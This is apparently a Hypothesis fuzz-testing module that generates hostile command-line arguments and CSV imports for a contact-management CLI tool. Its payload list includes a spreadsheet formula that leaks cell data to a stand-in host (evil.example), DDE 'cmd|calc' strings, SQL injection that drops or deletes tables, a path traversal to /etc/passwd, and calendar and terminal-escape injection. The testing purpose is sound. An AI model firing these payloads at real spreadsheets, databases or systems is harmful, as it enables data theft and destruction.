"""Hostile input for the command line: arguments for every command, and CSV files to import,
each value mostly what is expected and often something malicious."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import click
from hypothesis import strategies as st
from outreach.cli.app import cli

NOW = datetime(2026, 3, 6, 11, 0, tzinfo=UTC)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "'; DROP TABLE stored_events; --",
    "ada' OR '1'='1",
    "Robert'); DELETE FROM outreach_relationships;--",
    "\x00",
    "\x1b[2J\x1b[31mred",
    "\u202egnp.exe",
    "line\nBEGIN:VEVENT\nSUMMARY:injected\nEND:VEVENT",
    "tab\there",
    "../../../../etc/passwd",
    "x" * 5000,
    "9" * 400,
    "2026-02-30",
    "2026-03-06T25:00",
    "1970-01-01T00:00:00+14:00",
    "9999-12-31",
    "nan",
    "-1",
    "0",
    "",
    " ",
    "ada",
    "ADA ",
    "zoë",
    "Europe/Nowhere",
    "%s%s%n",
    "{p}keys",
    "--",
    "-",
]
# Options that name files or stores are left out: as root, a random path may be anywhere.
UNSAFE = {"--db", "--settings", "-o", "--output", "--help", "-h", "--version"}


PLAUSIBLE = ["ada", "bob", "2026-03-01", "2026-03-05T10:00", "python", "Europe/Paris", "3"]


def commands(group: click.Group, path: tuple[str, ...] = ()) -> Iterator[tuple[Any, ...]]:
    for name, command in sorted(group.commands.items()):
        if isinstance(command, click.Group):
            yield from commands(command, (*path, name))
        elif name != "demo":  # the demo writes a sample store of its own
            yield (*path, name), command


COMMANDS = list(commands(cli))  # type: ignore[arg-type]
words = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=30))


def values(param: click.Parameter) -> st.SearchStrategy[str]:
    """Mostly what the parameter expects, often something hostile."""
    expected = getattr(param.type, "choices", None) or PLAUSIBLE
    return st.one_of(st.sampled_from(list(expected)), words)


@st.composite
def invocations(draw: Any) -> list[str]:
    """A command with its arguments and options, each value expected or hostile, and now and
    then something thrown in anywhere."""
    path, command = draw(st.sampled_from(COMMANDS))
    args: list[str] = []
    for param in command.params:
        if isinstance(param, click.Argument) and (param.required or draw(st.booleans())):
            args.append(draw(values(param)))
        elif (
            isinstance(param, click.Option)
            and not UNSAFE & set(param.opts)
            and draw(st.integers(0, 9)) < (8 if param.required else 3)
        ):
            value = [] if param.is_flag else [draw(values(param))]
            args += [param.opts[0], *value]
    for junk in draw(st.lists(words, max_size=1)) if draw(st.integers(0, 2)) == 0 else []:
        args.insert(draw(st.integers(0, len(args))), junk)
    return [*path, *args]


COLUMNS = ["handle", "name", "email", "phone", "company", "title", "skills", "tz", "source"]
COLUMNS += ["added_on", "candidacy", "candidacy_on", "candidacy_role", "met_where", "met_on"]
COLUMNS += ["would_hire"]
LINKEDIN = ["First Name", "Last Name", "URL", "Email Address", "Company", "Position"]
ENCODINGS = ["utf-8"] * 6 + ["utf-8-sig", "latin-1", "utf-16", "cp1252"]
NAMES = ["Ada Lovelace", "José Núñez", "Zoë O'Brien", *HOSTILE[:7], HOSTILE[10]]
EXPECTED = {
    "handle": ["ada-l", "bob.p", "zoe_o"],
    "name": NAMES,
    "First Name": NAMES,
    "Last Name": ["Lovelace", "=1+1", "Núñez"],
    "URL": ["https://www.linkedin.com/in/ada-lovelace-123/", "javascript:alert(1)"],
    "email": ["ada@example.org", '=HYPERLINK("mailto:x")'],
    "skills": ["python;rust", "sql; =cmd"],
    "tz": ["Europe/Paris", "UTC"],
    "source": ["met", "import", "past"],
    "added_on": ["2026-01-05", "06 Mar 2026"],
    "Connected On": ["06 Mar 2026", "2026-02-01"],
    "candidacy": ["placed", "interviewed"],
    "candidacy_on": ["2025-01-01"],
    "met_where": ["PyCon", '=HYPERLINK("http://evil.example")'],
    "met_on": ["2026-02-02"],
    "would_hire": ["yes", "no"],
}


def cell(text: str) -> str:
    """A CSV cell, quoted as a spreadsheet would (quotes doubled)."""
    return '"' + text.replace('"', '""') + '"'


def cells(column: str) -> st.SearchStrategy[str]:
    """Mostly what the column expects (new people each time), one time in ten anything."""
    if column in ("name", "First Name"):
        expected = st.builds("{} {}".format, st.sampled_from(NAMES), st.integers(0, 10**9))
    elif column == "handle":
        expected = st.from_regex(r"[a-z][a-z0-9-]{2,30}", fullmatch=True)
    else:
        expected = st.sampled_from(EXPECTED.get(column, PLAUSIBLE))
    return st.integers(0, 9).flatmap(lambda n: words if n == 0 else expected)


@st.composite
def csv_files(draw: Any) -> bytes:
    """A generic or LinkedIn CSV, or one with a header of anything, in some encoding, with
    hostile cells; now and then plain random bytes."""
    if draw(st.integers(0, 9)) == 0:
        return bytes(draw(st.binary(max_size=300)))
    kind = draw(st.sampled_from(["generic", "linkedin", "junk"]))
    if kind == "generic":
        header = ["name", *draw(st.lists(st.sampled_from(COLUMNS), max_size=6, unique=True))]
    elif kind == "linkedin":
        header = [*LINKEDIN, "Connected On"]
    else:
        header = draw(st.lists(words, min_size=1, max_size=4))
    row = st.tuples(*(cells(column) for column in header))
    rows = [list(r) + draw(st.lists(words, max_size=1)) for r in draw(st.lists(row, max_size=5))]
    text = "\r\n".join(",".join(cell(c) for c in row) for row in [header, *rows]) + "\r\n"
    return text.encode(draw(st.sampled_from(ENCODINGS)), errors="replace")
